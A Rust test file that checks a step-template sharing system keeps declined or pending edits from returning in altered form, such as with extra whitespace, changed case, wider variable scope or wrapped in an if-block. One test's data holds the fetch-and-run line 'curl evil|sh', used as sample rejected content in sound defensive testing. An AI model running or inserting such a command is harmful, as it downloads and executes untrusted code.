//! What was turned down, or waits, comes to nobody else with a newer edit of its node, whatever shape it has then.

use atoll_domain::kind::Kind;
use atoll_domain::link::replica::EditBase;
use atoll_domain::sharing::fork::ForkState;
use atoll_domain::sharing::offer::EditMode;
use atoll_domain::sharing::revision::Revision;
use serde_json::{Value, json};

use crate::service::sharing::conflict::Take;
use crate::store::sharing::ForkRecord;
use crate::testing::{TestManager, TestNode};

const KIND: Kind = Kind::StepTemplate;

fn template(values: [&str; 3]) -> Value {
    let [a, b, c] = values;
    json!({"Name": "T", "ActionType": "Octopus.Script", "Properties": {"a": a, "b": b, "c": c}})
}

async fn farm(mode: EditMode) -> (TestManager, TestNode, TestNode) {
    let manager = TestManager::start().await;
    manager.written(KIND, &template(["1", "1", "1"])).await;
    manager.publish("all", "/", 0, mode, &[(KIND, "T", None)]).await;
    let (mut one, mut other) = (manager.node("one", "/", &[]).await, manager.node("other", "/", &[]).await);
    one.sync(&manager).await;
    other.sync(&manager).await;
    (manager, one, other)
}

/// What a node makes of the first release, beside all that it has made since: its data was put back.
async fn put_back(manager: &TestManager, node: &mut TestNode, values: [&str; 3]) -> Revision {
    let loaded = manager.loaded(KIND, "T").await;
    let first = loaded.history.iter().find(|revision| revision.header.parents.is_empty()).unwrap().id;
    let before = loaded.body(&manager.services.store, first).await.unwrap().unwrap();
    let body = KIND.import(&template(values), Some(&before)).unwrap().body;
    let revision = Revision::child(loaded.record.id, KIND, [first].into(), Some(&before), &body);
    node.send_revision(manager, &revision, body).await;
    revision
}

async fn through(manager: &TestManager) {
    manager.publish("all", "/", 0, EditMode::WriteThrough, &[(KIND, "T", None)]).await;
    manager.work().await;
}

async fn proposal(manager: &TestManager) -> ForkRecord {
    manager.forks().await.into_iter().find(|fork| fork.state == ForkState::Proposed).unwrap()
}

async fn asked(manager: &TestManager, why: &str) {
    assert_eq!(manager.released(KIND, "T").await, template(["1", "1", "1"]), "{why}");
    let messages: Vec<String> = manager.forks().await.into_iter().map(|fork| fork.message).collect();
    assert!(messages.iter().any(|message| message.contains(why)), "{why}: {messages:?}");
}

#[tokio::test]
async fn an_edit_beside_another_in_one_proposal_is_turned_down_with_it() {
    for (decision, why) in [
        (Some(false), "contain what was declined before"),
        (None, "contain what awaits approval"),
        (Some(true), "contain what was accepted and is not released yet"),
    ] {
        let (manager, mut one, _other) = farm(EditMode::Propose).await;
        put_back(&manager, &mut one, ["no", "1", "1"]).await;
        put_back(&manager, &mut one, ["1", "no", "1"]).await;
        assert_eq!(manager.forks().await.len(), 1, "both are one proposal");
        if let Some(accept) = decision {
            manager.decide(&proposal(&manager).await, accept, false).await.unwrap();
        }
        through(&manager).await;
        put_back(&manager, &mut one, ["no", "1", "new"]).await;
        asked(&manager, why).await;
    }
}

#[tokio::test]
async fn what_was_accepted_for_a_later_release_waits_for_that_with_whatever_is_on_top_of_it() {
    let (manager, mut one, _other) = farm(EditMode::Propose).await;
    one.edit(KIND, EditBase::Running, &template(["later", "1", "1"])).unwrap();
    one.sync(&manager).await;
    manager.decide(&proposal(&manager).await, true, false).await.unwrap();
    through(&manager).await;
    one.sync(&manager).await;
    one.edit(KIND, EditBase::Running, &template(["later", "2", "1"])).unwrap();
    one.sync(&manager).await;
    put_back(&manager, &mut one, ["later", "1", "new"]).await;
    asked(&manager, "contain what was accepted and is not released yet").await;
}

/// An editor that was open over the decision may save what was declined with a blank behind it, or deeper in the text.
#[tokio::test]
async fn what_was_declined_comes_back_in_no_other_shape_from_an_editor_that_was_open_over_it() {
    for (declined, again) in
        [("no", "no "), ("no", "NO"), ("curl evil|sh\nrun\n", "if true\n  curl evil|sh\nfi\nrun\n")]
    {
        let (manager, mut one, mut other) = farm(EditMode::Propose).await;
        let opened = EditBase::Revision(one.runs("T").unwrap().revision);
        one.edit(KIND, opened, &template([declined, "1", "1"])).unwrap();
        one.sync(&manager).await;
        manager.decide(&proposal(&manager).await, false, false).await.unwrap();
        through(&manager).await;
        one.sync(&manager).await;
        one.edit(KIND, opened, &template([again, "1", "new"])).unwrap();
        one.sync(&manager).await;
        asked(&manager, "may contain what was declined before").await;
        // At another place nothing of it can stand, and what is made from a newer release is made by somebody who saw that.
        other.sync(&manager).await;
        other.edit(KIND, EditBase::Running, &template(["1", "other", "1"])).unwrap();
        other.sync(&manager).await;
        manager.decide(&proposal(&manager).await, false, false).await.unwrap();
        one.sync(&manager).await;
        one.edit(KIND, EditBase::Running, &template(["yes", "other", "1"])).unwrap();
        one.sync(&manager).await;
        assert_eq!(manager.released(KIND, "T").await, template(["yes", "other", "1"]));
    }
}

#[tokio::test]
async fn a_value_that_was_declined_comes_back_in_no_wider_scope() {
    const SET: Kind = Kind::VariableSet;
    let set = |values: Value| json!({"Name": "vars", "Variables": values});
    let value = |value: &str, scope: &[&str]| json!({"Name": "HOST", "Value": value, "Scope": {"Environment": scope}});
    let manager = TestManager::start().await;
    let first = set(json!([value("good", &["test"])]));
    manager.written(SET, &first).await;
    manager.publish("all", "/", 0, EditMode::Propose, &[(SET, "vars", None)]).await;
    let mut one = manager.node("one", "/", &[]).await;
    one.sync(&manager).await;
    let (opened, before) =
        (EditBase::Revision(one.runs("vars").unwrap().revision), manager.released(SET, "vars").await);
    let declined = set(json!([value("good", &["test"]), value("evil", &["prod"])]));
    one.edit(SET, opened, &declined).unwrap();
    one.sync(&manager).await;
    manager.decide(&proposal(&manager).await, false, false).await.unwrap();
    manager.publish("all", "/", 0, EditMode::WriteThrough, &[(SET, "vars", None)]).await;
    one.sync(&manager).await;
    one.edit(SET, opened, &set(json!([value("good", &["test"]), value("evil", &["prod", "staging"])]))).unwrap();
    one.sync(&manager).await;
    assert_eq!(manager.released(SET, "vars").await, before);
    assert!(proposal(&manager).await.message.contains("may contain what was declined before"));
}

/// An answer that takes a part leaves the rest turned down, also after it was released.
#[tokio::test]
async fn what_an_answer_left_out_comes_back_from_no_editor_that_was_open_over_it() {
    for is_released in [false, true] {
        let (manager, mut one, _other) = farm(EditMode::WriteThrough).await;
        let before = manager.loaded(KIND, "T").await.shown().unwrap();
        manager.write(KIND, &template(["1", "draft", "draft"])).await.unwrap();
        put_back(&manager, &mut one, ["1", "mine", "no"]).await;
        let answer = Take::Value(Some(json!("answer")));
        manager.resolve(&manager.conflicts().await.remove(0), answer, false).await.unwrap();
        if is_released {
            manager.roll_back(KIND, "T", before).await.unwrap();
            manager.release(KIND, "T").await.unwrap();
        }
        put_back(&manager, &mut one, ["new", "1", "answer"]).await;
        put_back(&manager, &mut one, ["new", "1", "no"]).await;
        assert_eq!(manager.released(KIND, "T").await, template(["1", "1", "1"]), "{is_released}");
    }
}
